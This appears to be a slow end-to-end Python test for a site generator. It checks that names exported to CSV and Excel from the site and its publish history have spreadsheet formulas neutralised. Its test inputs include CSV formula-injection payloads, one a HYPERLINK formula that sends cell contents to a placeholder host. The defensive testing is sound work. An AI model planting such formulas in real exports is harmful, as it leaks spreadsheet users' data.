"""Files for people are safe to open: the site's CSV and Excel exports, and the history's copies.

The site is built from hostile names by `hcportal transform` and `hcportal build`, opened in
Chromium, and its exports are opened with openpyxl; the page itself shows each name exactly.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Page

from tests.conftest import NOW, run_cli
from tests.test_bad_input import AS_OF, assert_safe, risky, write_raw

# Two real CLI runs and a browser for two tests: the fast loop keeps the hostile site in
# test_site_safety and the formula rule itself in test_safecsv; this end-to-end check runs in make test.
pytestmark = pytest.mark.slow

HOSTILE = {'=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "=1+1", "+Plus Co", "-Minus Co"}


def hcportal(work: Path, *args: str) -> subprocess.CompletedProcess:
    return run_cli(*args, cwd=work, now=NOW)


@pytest.fixture(scope="module")
def work(tmp_path_factory) -> Path:
    work = tmp_path_factory.mktemp("exports")
    (work / "hcportal.toml").write_text('[paths]\nbuild = "build"\n')
    write_raw(work / "raw")
    for args in (
        ("transform", "--raw", "raw", "--out", "build/data", "--as-of", AS_OF),
        ("build", "--data", "build/data", "--out", "build/site"),
    ):
        proc = hcportal(work, *args)
        assert proc.returncode == 0, proc.stderr
    return work


def download(page: Page, button: str, path: Path) -> Path:
    with page.expect_download() as info:
        page.get_by_role("button", name=button).click()
    info.value.save_as(path)
    return path


@pytest.mark.reliability(
    "hostile names exported from a page to CSV and to Excel",
    "every text a spreadsheet would run is prefixed with ' (after trimming); opened with openpyxl, no formula; the page shows the names as they are",
)
def test_the_page_exports_neutralise_formulas(work, page: Page, tmp_path):
    page.goto((work / "build" / "site" / "targets.html").as_uri() + "#group=0")
    page.wait_for_selector("html[data-ready='1']", state="attached")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    shown = set(page.locator("tbody tr td:nth-child(1)").all_inner_texts())
    assert shown >= HOSTILE  # the site reads the tables back exactly: no apostrophe on screen

    csv_texts = set(assert_safe(download(page, "Download CSV", tmp_path / "targets.csv")))
    assert {"'" + name for name in HOSTILE} <= csv_texts

    book = openpyxl.load_workbook(download(page, "Download Excel", tmp_path / "targets.xlsx"))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert not [t for t in texts if risky(t)]
    assert {"'" + name for name in HOSTILE} <= texts


@pytest.mark.reliability(
    "hostile names in the tables a publish keeps in the history",
    "the history's CSV copies hold no formula (opened with openpyxl)",
)
def test_the_history_s_copies_hold_no_formula(work):
    proc = hcportal(work, "publish", "--force", "hand-made exports, no harvest")
    assert proc.returncode == 0, proc.stderr
    report = json.loads((work / "build" / "run-report.json").read_text())
    kept = Path(report["history"]) / "data"
    names = [p.name for p in kept.glob("*.csv")]
    assert {"targets.csv", "candidates.csv", "data_quality.csv"} <= set(names)
    for name in names:
        assert_safe(kept / name)
    assert {"'" + name for name in HOSTILE} <= set(assert_safe(kept / "targets.csv"))
